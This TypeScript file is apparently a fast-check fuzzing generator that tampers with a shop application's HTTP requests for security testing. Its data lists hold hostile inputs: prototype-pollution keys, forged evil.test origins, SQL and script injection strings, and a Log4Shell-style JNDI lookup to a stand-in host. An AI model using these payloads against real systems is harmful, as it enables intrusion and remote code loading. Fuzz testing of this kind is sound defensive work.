import fc from "fast-check";
import type { Call } from "./call.ts";
import type { Fields } from "./fields.ts";
import { Text, hostileTexts } from "./hostile-texts.ts";
import { ROLES, type Role } from "./roles.ts";
import { isThorough } from "../thorough.ts";

/** A change of one field. `raw` is sent unencoded although it should be encoded. */
type FieldChange =
  | { how: "set" | "add" | "put before" | "raw"; value: Text }
  | { how: "leave out" }
  | { how: "rename"; suffix: string };
export type Changes = { name: string; change: FieldChange }[];

export const SHAPES = [
  "urlencoded",
  "multipart",
  "multipart with files",
  "multipart cut off",
  "json",
  "plain text",
  "no content type",
  "odd content type",
  "nothing",
  "garbage",
  "oversize",
] as const;
export type Shape = (typeof SHAPES)[number];

/** One hostile use of a call. */
export type Tampering = {
  role: Role;
  params: Changes;
  query: Changes;
  fields: Changes;
  /** Fields and parameters that no page of ours sends. */
  extra: [string, Text][];
  cookies: [string, Text][];
  headers: Record<string, string>;
  shape: Shape;
  signature: "valid" | "missing" | "wrong" | "stale" | "odd";
  /** Requests the router's data format, as our own script does. */
  data: boolean;
};

const EXTRA = [
  "__proto__",
  "__proto__[role]",
  "constructor",
  "hasOwnProperty",
  "intent",
  "via",
  "next",
  "page",
  "sort",
  "q",
  "tab",
  "_routes",
  "index",
  "_method",
  "price",
  "total",
  "userId",
  "role",
  "isDemo",
  "",
  "a\u0000b",
];
const COOKIES = [
  "pm_cart",
  "pm_undo",
  "pm_flash",
  "pm_glance",
  "pm_last_order",
  "pm_assessment",
  "pm_assessments_kept",
  "pm.session_token",
  "__proto__",
];
const FOREIGN: Record<string, string>[] = [
  { origin: "https://evil.test" },
  { origin: "null" },
  { origin: "" },
  { origin: "javascript:pwned(1)", "sec-fetch-site": "same-origin" },
  { origin: "https://evil.test", "sec-fetch-site": "same-origin" },
  { host: "evil.test" },
  { host: "evil.test", origin: "https://shop.example" },
  { host: "a b" },
  { host: "evil.test:99999" },
  { host: "[::1" },
  { host: "" },
];
const ODD: Record<string, string>[] = [
  { "x-forwarded-for": "' or 1=1 --", "x-forwarded-host": "evil.test" },
  { accept: "application/x-nothing", "accept-language": "x".repeat(3_000) },
  { "content-encoding": "gzip" },
  { "if-none-match": "*", range: "bytes=9-1" },
  { referer: "http://%zz/<script>pwned(1)</script>" },
  { "user-agent": "${jndi:ldap://evil.test/a}" },
];

const rarely = <T>(usual: T, other: fc.Arbitrary<T>, weight = 1): fc.Arbitrary<T> =>
  fc.oneof({ arbitrary: fc.constant(usual), weight: 9 }, { arbitrary: other, weight });

function change(tempting: readonly string[]): fc.Arbitrary<FieldChange> {
  const values = hostileTexts(tempting);
  const raw = fc.constantFrom("%", "%zz", "%00", "%E0%A4%A", "%ED%A0%80", "%ff%fe", "+", "&&=&");
  return fc.oneof(
    { arbitrary: fc.record({ how: fc.constant("set" as const), value: values }), weight: 10 },
    fc.record({ how: fc.constantFrom("add" as const, "put before" as const), value: values }),
    fc.record({ how: fc.constant("raw" as const), value: raw.map((text) => new Text(text)) }),
    fc.constant({ how: "leave out" as const }),
    fc.record({
      how: fc.constant("rename" as const),
      suffix: fc.constantFrom("[]", "[0]", "[a]", "[__proto__]", ".a", "\u0000", " "),
    }),
  );
}

function changes(fields: Fields = {}): fc.Arbitrary<Changes> {
  const names = Object.keys(fields);
  if (names.length === 0) return fc.constant([]);
  const one = fc
    .constantFrom(...names)
    .chain((name) =>
      change(fields[name]?.tempting ?? []).map((drawn) => ({ name, change: drawn })),
    );
  return fc.uniqueArray(one, { maxLength: 3, selector: ({ name }) => name });
}

/** All faults that a call can have. Usually only a few at once, so that the rest gets through. */
export function tamperings(call: Call): fc.Arbitrary<Tampering> {
  const own = call.as ?? "visitor";
  const pair = (names: readonly string[]) => fc.tuple(fc.constantFrom(...names), hostileTexts());
  return fc.record({
    role: fc.oneof(
      { arbitrary: fc.constant(own), weight: 3 },
      { arbitrary: fc.constantFrom(...ROLES), weight: 1 },
    ),
    params: changes(call.params),
    query: changes(call.query),
    fields: changes(call.fields),
    extra: rarely<[string, Text][]>([], fc.array(pair(EXTRA), { maxLength: 3 }), 3),
    cookies: rarely<[string, Text][]>([], fc.array(pair(COOKIES), { maxLength: 2 }), 2),
    headers: rarely({}, fc.constantFrom(...FOREIGN, ...ODD), 2),
    shape: rarely<Shape>("urlencoded", fc.constantFrom(...SHAPES), 4),
    signature: call.sign
      ? rarely<Tampering["signature"]>(
          "valid",
          fc.constantFrom("missing", "wrong", "stale", "odd"),
          2,
        )
      : fc.constant("valid" as const),
    data: rarely(false, fc.constant(true), 2),
  });
}

export const NOTHING: Tampering = {
  role: "visitor",
  params: [],
  query: [],
  fields: [],
  extra: [],
  cookies: [],
  headers: {},
  shape: "urlencoded",
  signature: "valid",
  data: false,
};

/**
 * Omits each field in turn, as our script sends a form: that costs no page. The nightly sends it as
 * a browser does, and also empties each one.
 */
export function leftOut(call: Call, isPage: boolean): Tampering[] {
  const empty: FieldChange = { how: "set", value: new Text("") };
  const changes: FieldChange[] = [{ how: "leave out" }, ...(isThorough ? [empty] : [])];
  const each = (fields: Fields = {}) =>
    Object.keys(fields).flatMap((name) => changes.map((drawn) => [{ name, change: drawn }]));
  const plain = { ...NOTHING, role: call.as ?? NOTHING.role };
  const data = isPage && !isThorough;
  return [
    ...each(call.query).map((query) => ({ ...plain, query })),
    ...each(call.fields).map((fields) => ({ ...plain, data, fields })),
  ];
}
